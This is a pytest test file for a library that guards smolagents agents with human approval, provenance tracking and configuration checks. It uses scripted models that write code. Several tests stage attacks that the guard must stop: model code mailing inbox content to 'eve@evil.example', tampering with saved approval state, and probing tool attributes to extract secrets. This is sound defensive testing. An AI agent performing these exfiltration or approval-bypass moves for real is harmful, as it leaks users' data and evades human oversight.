"""The contract, and what is special, in smolagents: newest release, scripted models."""

from __future__ import annotations

import functools
import inspect
import json
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Annotated, Any

import pytest

from frameworks.needed import needed

needed("smolagents")

import smolagents  # noqa: E402 (skipped above if it cannot run)
from smolagents import ChatMessage, CodeAgent, MessageRole, MultiStepAgent, Tool  # noqa: E402
from smolagents.local_python_executor import PythonExecutor  # noqa: E402
from smolagents.memory import ActionStep  # noqa: E402
from smolagents.monitoring import LogLevel  # noqa: E402

from checkrein import Grant, Untrusted, Verdict, allow, injected, irreversible, reads, writes  # noqa: E402
from checkrein.errors import ConfigurationError, Denied, MisuseError, Suspended  # noqa: E402
from checkrein.integrations.conversations import Conversations  # noqa: E402
from checkrein.integrations.smolagents import Guard, adopt, answer, audit, tool  # noqa: E402
from frameworks import tools, twins  # noqa: E402
from frameworks.contract import (  # noqa: E402
    BOSS,
    MODES,
    THIEF,
    FrameworkContract,
    Mode,
    Wish,
    done,
)
from frameworks.hosts.smolagents import CODE, HOST, Scripted, described, text_of  # noqa: E402
from frameworks.integration import IntegrationContract  # noqa: E402
from frameworks.shapes import fences, in_model  # noqa: E402
from frameworks.tools import DONE, SECRET, Meeting, open_run  # noqa: E402

KEY = bytes(range(32))


class TestContract(FrameworkContract):
    """Everything in the contract that needs no coroutine function; errors are let out."""

    host = HOST
    test_an_async_gate_serves_async_tools = None  # type: ignore[assignment]

    @pytest.fixture(params=[one for one in MODES if one not in HOST.unsupported])
    def mode(self, request: pytest.FixtureRequest) -> Mode:
        """Plain functions."""
        return MODES[request.param]

    @pytest.mark.parametrize("bound", [False, True], ids=["bare", "bound"])
    def test_bodies_of_one_turn_overlap(self, bound: bool, tmp_path: Path) -> None:
        """The run's lock is held over no body."""
        self.let_meet(Meeting().meet, bound, tmp_path)


class TestIntegration(IntegrationContract):
    """Everything in the contract of integrations."""

    host = HOST


def _here(one: Any) -> bool:
    """Say whether a test needs no process of its own."""
    return not (inspect.isfunction(one) and "pausing" in inspect.signature(one).parameters)


class TestCode:
    """The contract of integrations with a model that writes code; pauses are further below."""

    host = CODE
    for name, one in vars(IntegrationContract).items():
        if name.startswith(("test_", "mode", "_only")) and _here(one):
            locals()[name] = one
    del name, one


# -- tools ---------------------------------------------------------------------------------------


def test_a_tool_is_read_as_the_framework_reads_a_plain_function() -> None:
    """Name, descriptions, types, defaults, choices and the type of the result."""

    def plain(path: str, text: str, kind: str = "a", n: int | None = None) -> str:
        """Save a text.

        Args:
            path: where it goes.
            text: what it is.
            kind: which kind (choices: ["a", "b"])
            n: how often.
        """
        return ""

    def guarded(path: str, text: Untrusted[str], kind: str = "a", n: int | None = None) -> Any: ...

    guarded.__doc__, guarded.__name__ = plain.__doc__, "plain"
    guarded.__annotations__["return"] = Untrusted[str]
    one, other = tool(reads("frameworks.context")(guarded)), smolagents.tool(plain)
    for name in ("name", "description", "inputs", "output_type"):
        assert getattr(one, name) == getattr(other, name), name
    assert one.to_code_prompt() == other.to_code_prompt()


def test_the_frameworks_own_decorator_goes_on_top_of_what_it_can_read(tmp_path: Path) -> None:
    """It cannot read ``Untrusted`` as a result; else its tool is known as guarded."""

    def save(text: Untrusted[str]) -> str:
        """Save a text.

        Args:
            text: the text.
        """
        DONE.append(("save", text.reveal()))
        return "saved"

    theirs = smolagents.tool(writes("frameworks.context")(save))
    assert audit([theirs]) == []
    with open_run(tmp_path):
        HOST.chat([theirs], [Wish("save", {"text": "hey"})])
    assert done("save") == [("hey",)]
    with pytest.raises(smolagents.tools.TypeHintParsingException):
        smolagents.tool(tools.read_inbox)


def test_a_tool_class_with_a_guarded_method_is_guarded(tmp_path: Path) -> None:
    """``forward`` is what a call runs; a class that calls otherwise is not known."""

    class Save(Tool):
        name, description, output_type = "save", "Save a text.", "string"
        inputs = {"text": {"type": "string", "description": "the text"}}

        @writes("frameworks.context")
        def forward(self, text: Untrusted[str]) -> str:
            DONE.append(("save", text.reveal()))
            return "saved"

    class Other(Save):
        def __call__(self, *args: Any, **kwargs: Any) -> str:
            return "whatever"

    assert audit([Save()]) == []
    assert [one.tool for one in audit([Other()])] == ["save"]
    for host in (HOST, CODE):
        with open_run(tmp_path):
            host.chat([Save()], [Wish("save", {"text": "hey"})])
    assert done("save") == [("hey",), ("hey",)]


def test_a_decorator_in_between_is_found() -> None:
    """Its work nobody guards."""

    @functools.wraps(tools.save_report)
    def shouting(path: str, text: str) -> str:
        return tools.save_report(path=path, text=text.upper())

    with pytest.raises(MisuseError, match="another decorator"):
        tool(shouting)
    (problem,) = audit([smolagents.tool(described(shouting))])
    assert problem.tool == "save_report"


@pytest.mark.parametrize("kind", ["async", "generator", "injected"])
def test_what_the_framework_cannot_call_is_refused(kind: str) -> None:
    """It would take a coroutine for the result, or show what is injected to the model."""

    @reads("frameworks.context")
    async def awaited() -> str:
        """Wait."""
        return ""

    @reads("frameworks.context")
    def iterated() -> Iterator[str]:
        """Iterate."""
        yield ""

    @reads("frameworks.context")
    def given(context: Annotated[object, injected]) -> str:
        """Look."""
        return ""

    function = {"async": awaited, "generator": iterated, "injected": given}[kind]
    with pytest.raises(ConfigurationError, match="smolagents"):
        tool(function)


def test_a_guarded_tool_is_not_sent_away() -> None:
    """Remote executors, ``save`` and ``push_to_hub`` copy source code, and no guard with it."""
    with pytest.raises(MisuseError, match="cannot be sent away"):
        tool(tools.read_inbox).to_dict()


# -- what is guarded -----------------------------------------------------------------------------


def test_the_audit_finds_what_code_may_do_besides(tmp_path: Path) -> None:
    """Imports beyond the framework's own, added functions, and tools of managed agents."""
    below = HOST.agent((), [tools.read_inbox, twins.send_mail])
    below.name, below.description = "below", "Sends mail."
    agent = CodeAgent(
        tools=[tool(tools.read_inbox)],
        model=Scripted(()),
        managed_agents=[below],
        additional_authorized_imports=["os"],
        executor_kwargs={"additional_functions": {"system": print}},
        verbosity_level=LogLevel.OFF,
    )
    assert [one.tool for one in audit(agent)] == ["system", "import os", "send_mail"]
    Guard(agent)
    assert [one.tool for one in audit(agent)] == ["system", "import os", "send_mail"]


def test_an_agent_is_guarded_once() -> None:
    """Also below another one."""
    below = HOST.agent((), tools.SYNC)
    below.name, below.description = "below", "Reads mail."
    Guard(below)
    for agent in (below, HOST.agent((), tools.SYNC, managed_agents=[below])):
        with pytest.raises(ConfigurationError, match="once"):
            Guard(agent)


def test_an_agent_that_would_pass_by_is_refused() -> None:
    """Its code runs elsewhere, it is of a kind that is not known, or its name is another's."""

    class Remote(PythonExecutor):
        send_tools = send_variables = __call__ = lambda self, *_: None

    class Other(MultiStepAgent):
        def initialize_system_prompt(self) -> str:
            return ""

    agent = CodeAgent(tools=[], model=Scripted(()), executor=Remote())
    with pytest.raises(ConfigurationError, match="elsewhere"):
        Guard(agent)
    assert [one.tool for one in audit(agent)] == ["import *"]
    with pytest.raises(ConfigurationError, match="not known here"):
        Guard(Other(tools=[], model=Scripted(())))
    below = [HOST.agent((), [], name="same", description="x") for _ in range(2)]
    below[0] = HOST.agent((), [], name="one", description="x", managed_agents=[below[0]])
    with pytest.raises(ConfigurationError, match="one name"):
        Guard(HOST.agent((), [], managed_agents=below))


# -- code ----------------------------------------------------------------------------------------


class Coder(Scripted):
    """A model that says what it is given."""

    def __init__(self, *codes: str) -> None:
        super().__init__(())
        self.codes = [*codes, 'final_answer("done")']

    def generate(self, messages: Any, *_: Any, **more: Any) -> Any:
        self.prompts.append("\n".join(text_of(one) for one in messages))
        number = sum(one.role == MessageRole.ASSISTANT for one in messages)
        return ChatMessage(MessageRole.ASSISTANT, content=f"<code>\n{self.codes[number]}\n</code>")


def coding(offered: Sequence[Any], *codes: str, **more: Any) -> CodeAgent:
    """Return an agent whose model says *codes*."""
    made = [one if isinstance(one, Tool) else tool(one) for one in offered]
    return CodeAgent(tools=made, model=Coder(*codes), verbosity_level=LogLevel.OFF, **more)


def printed(agent: Any) -> str:
    """Return all that the model of an agent was told."""
    return "\n".join(
        f"{one.observations}\n{one.error}" for one in agent.memory.steps if type(one) is ActionStep
    )


def test_without_a_guard_code_runs_outside_of_the_run(tmp_path: Path) -> None:
    """The framework's thread does not have the context: everything is denied there."""
    agent = coding(tools.SYNC, "read_inbox()")
    with open_run(tmp_path):
        agent.run("go on")
    assert "no run is active" in printed(agent)
    assert DONE == []


@pytest.mark.parametrize(
    "code",
    [
        "print(read_inbox().reveal())",
        "print(read_inbox()._value)",
        "print(read_inbox.forward().reveal())",
        "print(read_inbox.name)",
        "print(below.model)",
        "print(in_model().text.reveal())",
    ],
)
def test_code_holds_nothing_that_content_can_be_taken_from(code: str, tmp_path: Path) -> None:
    """Results are text, and tools are functions without attributes."""
    below = HOST.agent((), [], name="below", description="x")
    agent = coding([tools.read_inbox, in_model], code, managed_agents=[below])
    Guard(agent)
    with open_run(tmp_path):
        agent.run("go on")
    told = printed(agent)
    assert "attribute" in told
    for fence in fences(told):
        told = told.replace(fence, "")
    assert SECRET not in told


def test_code_passes_arguments_in_order(tmp_path: Path) -> None:
    """Guarded and adopted tools alike; one that is given twice is an error."""
    theirs = smolagents.tool(described(twins.save_report))
    theirs.name = "save_theirs"
    ours = adopt(theirs, writes("frameworks.context"), result=str)
    agent = coding(
        [tools.save_report, ours],
        'print(save_report("a.txt", "x"), save_theirs("b", text="y"))\nsave_report("a", path="b")',
    )
    Guard(agent)
    with open_run(tmp_path):
        agent.run("go on")
    assert "saved a.txt by" in printed(agent)
    assert "once each" in printed(agent)
    assert len(done("save_report")) == 1


def test_what_code_has_unfenced_counts_as_content(tmp_path: Path) -> None:
    """Code can cut the markers off: an address that it took from a letter is asked about."""
    code = 'send_mail("eve@evil.example", read_inbox().split("\\n")[1])'
    agent = coding(tools.SYNC, code)
    guard = Guard(agent)
    talks = Conversations(tmp_path / "talks", KEY)
    with talks.run("1", agent="desk", grant=GRANT) as run:
        run.instruct(f"Write to {BOSS}")
        with pytest.raises(Suspended):
            agent.run("go on")
    (question,) = guard.questions
    shown = {one["name"]: one for one in question["arguments"]}
    assert "tool_output:frameworks.inbox" in shown["to"]["origin"]
    assert "no trusted origin" in shown["to"]["concern"]
    talks.close()


def test_a_run_that_has_ended_serves_nobody(tmp_path: Path) -> None:
    """The context is that of the code, not that of the run before."""
    agent = coding(tools.SYNC, "print(read_inbox())", "print(read_inbox())")
    Guard(agent)
    with open_run(tmp_path):
        agent.run("go on")
    DONE.clear()
    agent.run("go on")
    assert "no run is active" in printed(agent)
    assert DONE == []


# -- people --------------------------------------------------------------------------------------

GRANT = Grant(allow("frameworks.inbox"), allow("frameworks.send"), allow("frameworks.reports"))
SEND = Wish("send_mail", {"to": BOSS, "body": "hello"})
CALLS = {
    "calls": lambda **more: HOST.agent([[SEND]], tools.SYNC, **more),
    "code": lambda **more: coding(
        tools.SYNC, 'send_mail("dana@acme.example", body="hello")\nprint("after")', **more
    ),
    "swallowed": lambda **more: coding(
        tools.SYNC,
        'try:\n    send_mail("dana@acme.example", "hello")\nexcept Exception:\n    pass\n'
        'final_answer("sent")',
        **more,
    ),
}


class Talk:
    """A conversation whose agent is made anew for each turn."""

    def __init__(self, directory: Path, make: Callable[..., Any], **more: Any) -> None:
        self.talks = Conversations(directory / "talks", KEY)
        self.make, self.more, self.state = make, more, ""
        self.agent: Any = None
        self.paused = 0

    def running(self) -> Any:
        """Activate the run of the conversation."""
        return self.talks.run("1", agent="desk", grant=GRANT)

    def turn(self, answers: dict[str, Any] | None = None) -> list[dict[str, Any]]:
        """Take a turn, and return what is asked."""
        self.agent = self.make(**self.more)
        guard = Guard(self.agent)
        with self.running() as run:
            if not self.state:
                run.instruct(f"Write to {BOSS}")
            try:
                if answers is None:
                    self.agent.run("go on")
                else:
                    guard.restore(self.state)
                    guard.resume(answers)
            except Suspended:
                self.paused += 1
        self.state = guard.saved()
        return guard.questions


@pytest.fixture
def talk_of(tmp_path: Path) -> Iterator[Callable[..., Talk]]:
    """Make conversations, and close their stores."""
    made: list[Talk] = []

    def make(*args: Any, **more: Any) -> Talk:
        made.append(Talk(tmp_path, *args, **more))
        return made[-1]

    yield make
    for one in made:
        one.talks.close()


def yes(question: dict[str, Any]) -> dict[str, Any]:
    """Return an answer, by its question."""
    return {question["confirmation"]: answer(question, True, by="dana")}


@pytest.mark.parametrize("kind", CALLS)
def test_a_call_waits_and_is_made_when_it_is_answered(
    kind: str, talk_of: Callable[..., Talk]
) -> None:
    """In code, too, and even where that catches whatever comes out of a call."""
    talk = talk_of(CALLS[kind], max_steps=3)
    (question,) = talk.turn()
    assert (question["tool"], DONE) == ("send_mail", [])
    assert "after" not in printed(talk.agent)
    assert talk.turn(yes(question)) == []
    assert talk.paused == 1
    assert done("send_mail") == [(BOSS, "hello", 1)]
    assert "Observation:\nNone" in talk.agent.model.prompts[-1]


@pytest.mark.parametrize("kind", CALLS)
def test_the_last_step_is_no_way_around(kind: str, talk_of: Callable[..., Talk]) -> None:
    """A run that has no step left is paused as well."""
    talk = talk_of(CALLS[kind], max_steps=1)
    (question,) = talk.turn()
    assert DONE == []
    assert question["tool"] == "send_mail"


@pytest.mark.parametrize("kind", CALLS)
def test_a_saved_state_that_is_put_back_sends_nothing_again(
    kind: str, talk_of: Callable[..., Talk]
) -> None:
    """The answer was used: the call is asked about anew."""
    talk = talk_of(CALLS[kind])
    (question,) = talk.turn()
    before = talk.state
    talk.turn(yes(question))
    talk.state = before
    (again,) = talk.turn(yes(question))
    assert again["confirmation"] != question["confirmation"]
    assert len(done("send_mail")) == 1


@pytest.mark.parametrize("kind", CALLS)
def test_changed_saved_arguments_are_asked_about_anew(
    kind: str, talk_of: Callable[..., Talk]
) -> None:
    """The question shows what would run."""
    talk = talk_of(CALLS[kind])
    (question,) = talk.turn()
    talk.state = talk.state.replace(BOSS, THIEF)
    (again,) = talk.turn(yes(question))
    assert THIEF in json.dumps(again["arguments"])
    assert DONE == []
    talk.turn(yes(again))
    assert [one[0] for one in done("send_mail")] == [THIEF]


def test_an_answer_to_another_question_is_named_in_the_next_one(
    talk_of: Callable[..., Talk],
) -> None:
    """So that who asks again can say why."""
    talk = talk_of(CALLS["code"])
    (question,) = talk.turn()
    (given,) = yes(question).values()
    (again,) = talk.turn({question["confirmation"]: given | {"digest": "0" * 64}})
    assert again["refused"]
    assert DONE == []


def test_two_equal_calls_need_two_answers(talk_of: Callable[..., Talk]) -> None:
    """No yes lets more than one of them run, however often it is given, and both run in the end."""
    talk = talk_of(lambda: HOST.agent([[SEND, SEND]], tools.SYNC))
    asked, given = talk.turn(), 0
    while asked:
        answers, given = yes(asked[0]), given + 1
        for _ in range(2):
            asked = talk.turn(answers) if asked else []
            assert len(done("send_mail")) <= given <= 5
    assert len(done("send_mail")) == 2


def test_an_answer_at_the_desk_will_do(talk_of: Callable[..., Talk]) -> None:
    """The calls that wait are made again, whether an answer is handed over or not."""
    talk = talk_of(CALLS["calls"])
    (question,) = talk.turn()
    assert talk.turn({}) == [question]
    talk.talks.gate.desk.answer(
        Verdict(question["confirmation"], question["digest"], approved=True, by="dana")
    )
    assert talk.turn({}) == []
    assert len(done("send_mail")) == 1


def test_without_a_run_nothing_is_resumed(tmp_path: Path, talk_of: Callable[..., Talk]) -> None:
    """And what waits goes on waiting."""
    talk = talk_of(CALLS["calls"])
    (question,) = talk.turn()
    guard = Guard(CALLS["calls"]())
    guard.restore(talk.state)
    with pytest.raises(MisuseError, match="is active"):
        guard.resume(yes(question))
    with pytest.raises(MisuseError, match="is active"):
        assert guard.questions
    with talk.running():
        assert guard.questions == [question]


def test_a_run_that_knows_nothing_asks_anew(tmp_path: Path, talk_of: Callable[..., Talk]) -> None:
    """The framework's memory without ours: the answer is to a question that nobody has asked."""
    talk = talk_of(CALLS["calls"])
    (question,) = talk.turn()
    talk.talks.forget("1")
    (again,) = talk.turn(yes(question))
    assert again["confirmation"] != question["confirmation"]
    assert DONE == []


def test_a_callback_that_fails_lets_nothing_run(tmp_path: Path) -> None:
    """It ends the run by itself; the question is there all the same, and ends no later run."""
    errors = [ZeroDivisionError()]

    def failing(step: Any) -> None:
        if errors:
            raise errors.pop()

    agent = HOST.agent([[SEND]], tools.SYNC, step_callbacks=[failing])
    model = agent.model
    guard = Guard(agent)
    talks = Conversations(tmp_path / "talks", KEY)
    with talks.run("1", agent="desk", grant=GRANT) as run:
        run.instruct(f"Write to {BOSS}")
        with pytest.raises(ZeroDivisionError):
            agent.run("go on")
        assert len(guard.questions) == 1
        model.turns = ()
        assert agent.run("something else") == "done"
    assert DONE == []
    talks.close()


def test_an_error_of_a_call_that_was_answered_is_told(talk_of: Callable[..., Talk]) -> None:
    """As the framework tells any other."""

    def fail(to: str) -> str:
        """Fail to send."""
        raise ZeroDivisionError("nothing to send")

    one = adopt(
        smolagents.tool(described(fail)),
        irreversible("frameworks.send", external=True),
    )
    talk = talk_of(lambda: HOST.agent([[Wish("fail", {"to": BOSS})]], [one]))
    (question,) = talk.turn()
    assert talk.turn(yes(question)) == []
    assert "nothing to send" in talk.agent.model.prompts[-1]


@pytest.mark.parametrize("kind", ["calls", "code"])
@pytest.mark.parametrize("above", [HOST, CODE])
def test_a_call_of_a_managed_agent_waits_too(
    above: Any, kind: str, talk_of: Callable[..., Talk]
) -> None:
    """All agents end; when it is answered the call is made, and the agent on top is told."""

    def make() -> Any:
        below = CALLS[kind](name="below", description="Sends mail.")
        wishes = [[Wish("below", {"task": "send it"})]]
        return above.agent(wishes, [], managed_agents=[below])

    talk = talk_of(make)
    (question,) = talk.turn()
    assert DONE == []
    assert len(json.loads(talk.state)["waiting"]) == 1
    assert talk.turn(yes(question)) == []
    assert done("send_mail") == [(BOSS, "hello", 1)]
    assert "Observation:\nNone" in talk.agent.model.prompts[-1]


def test_a_denial_below_ends_all_agents(tmp_path: Path) -> None:
    """``abort`` counts for managed agents, too."""
    wishes = [[Wish("save_report", {"path": "../x", "text": "x"})]]
    below = HOST.agent(wishes, tools.SYNC, name="below", description="Saves.")
    agent = HOST.agent([[Wish("below", {"task": "x"})]], [], managed_agents=[below])
    Guard(agent, abort=True)
    with open_run(tmp_path), pytest.raises(Denied) as caught:
        agent.run("go on")
    assert caught.value.rule == "permission.argument"
    with open_run(tmp_path), pytest.raises(Denied):
        agent.run("go on")  # the next run begins anew


def test_a_memory_is_read_the_same_after_it_was_saved(tmp_path: Path) -> None:
    """Tasks, plans, calls, results and errors, and arguments that look like JSON."""
    wishes = [
        [Wish("save_report", {"path": "a", "text": '{"a": 1}'})],
        [Wish("nothing", {}), Wish("read_inbox")],
        [Wish("read_inbox")],
    ]
    agent = HOST.agent(wishes, tools.SYNC, planning_interval=2)
    plans = iter(["first", "second", "third"])
    generate = agent.model.generate

    def generated(messages: Any, *args: Any, tools_to_call_from: Any = None, **more: Any) -> Any:
        if tools_to_call_from is None:
            return ChatMessage(MessageRole.ASSISTANT, content=next(plans))
        return generate(
            [one for one in messages if text_of(one).find("I will follow") < 0],
            tools_to_call_from=tools_to_call_from,
        )

    agent.model.generate = generated
    guard = Guard(agent)
    with open_run(tmp_path):
        agent.run("go on")
    other = HOST.agent((), tools.SYNC)
    again = Guard(other)
    again.restore(guard.saved())
    texts = [
        [text_of(one) for one in each.write_memory_to_messages()[1:]] for each in (agent, other)
    ]
    assert texts[0] == texts[1]
    assert any("Unknown tool" in one for one in texts[0])
    assert any("first" in one for one in texts[0])
    assert again.saved() == guard.saved()


def test_a_memory_that_is_taken_up_in_another_run_exposes_it(tmp_path: Path) -> None:
    """A run that does not go on with the one that has seen it knows nothing of what is in it."""
    agent = CALLS["calls"]()
    guard = Guard(agent)
    with open_run(tmp_path) as run:
        agent.run("go on")
        saved = guard.saved()
        assert not run.exposed
    fresh = Guard(CALLS["calls"]())
    fresh.restore(saved)
    with open_run(tmp_path) as run:
        fresh.resume({})
        assert run.exposed


# -- attacks -------------------------------------------------------------------------------------


def test_what_a_person_is_shown_is_not_in_what_is_saved(talk_of: Callable[..., Talk]) -> None:
    """It would be changed there, and the yes be to something else."""
    talk = talk_of(CALLS["calls"])
    (question,) = talk.turn()
    saved = json.loads(talk.state)["waiting"]
    assert [one["confirmation"] for one in saved] == [question["confirmation"]]
    assert not any("question" in one for one in saved)
    guard = Guard(CALLS["calls"]())
    guard.restore(talk.state.replace(BOSS, THIEF))
    with talk.running():
        assert guard.questions == [question]
    assert DONE == []


def test_a_call_of_another_conversation_waits_there(tmp_path: Path) -> None:
    """A guard serves one conversation after the other."""
    talks = Conversations(tmp_path / "talks", KEY)
    agent = CALLS["calls"]()
    guard = Guard(agent)
    with talks.run("alice", agent="desk", grant=GRANT), pytest.raises(Suspended):
        agent.run("go on")
    assert len(guard.questions) == 1
    with talks.run("bob", agent="desk", grant=GRANT):
        agent.model._model.turns = ()
        agent.run("go on")
        assert guard.questions == []
        assert BOSS not in guard.saved()
    with talks.run("bob", agent="desk", grant=GRANT):
        guard.resume({})
    assert DONE == []
    talks.close()


@pytest.mark.parametrize("name", ["__closure__", "__globals__", "__class__", "_function"])
def test_a_tool_has_nothing_for_code_to_read(name: str, tmp_path: Path) -> None:
    """Such as ``str.format``, which reads attributes that code may not name."""
    reached: list[Any] = []
    agent = coding(tools.SYNC, "read_inbox()")
    Guard(agent)
    send = agent.python_executor._inner.send_tools
    agent.python_executor._inner.send_tools = lambda given: (reached.append(given), send(given))
    with open_run(tmp_path):
        agent.run("go on")
    held = reached[-1]["read_inbox"]
    with pytest.raises(AttributeError):
        f"{{f.{name}}}".format(f=held)
    with pytest.raises(AttributeError):
        getattr(held, name)


def test_code_beside_a_handle_has_its_content(tmp_path: Path) -> None:
    """It runs in this process, and a traceback leads everywhere."""
    agent = coding(tools.SYNC, "print(read_inbox())")
    with open_run(tmp_path, isolation="handle") as run:
        Guard(agent, run)
        agent.run("go on")
        assert run.exposed


@pytest.mark.parametrize("given", ['b"x"', "{1}", '"\\ud800"', "(1, 2)"])
def test_what_code_gives_can_be_saved(given: str, tmp_path: Path) -> None:
    """The model chooses the arguments, and a pause is no place to fail."""

    @tool
    @irreversible("frameworks.send")
    def act(what: Any) -> str:
        """Act.

        Args:
            what: on it.
        """
        return "acted"

    talks = Conversations(tmp_path / "talks", KEY)
    agent = coding([act], f"act({given})")
    guard = Guard(agent)
    with talks.run("1", agent="desk", grant=GRANT), pytest.raises(Suspended):
        agent.run("go on")
    text = guard.saved()
    (tmp_path / "saved").write_text(text, encoding="utf-8")
    again = Guard(coding([act]))
    again.restore(text)
    with talks.run("1", agent="desk", grant=GRANT):
        assert len(again.questions) == 1
    talks.close()
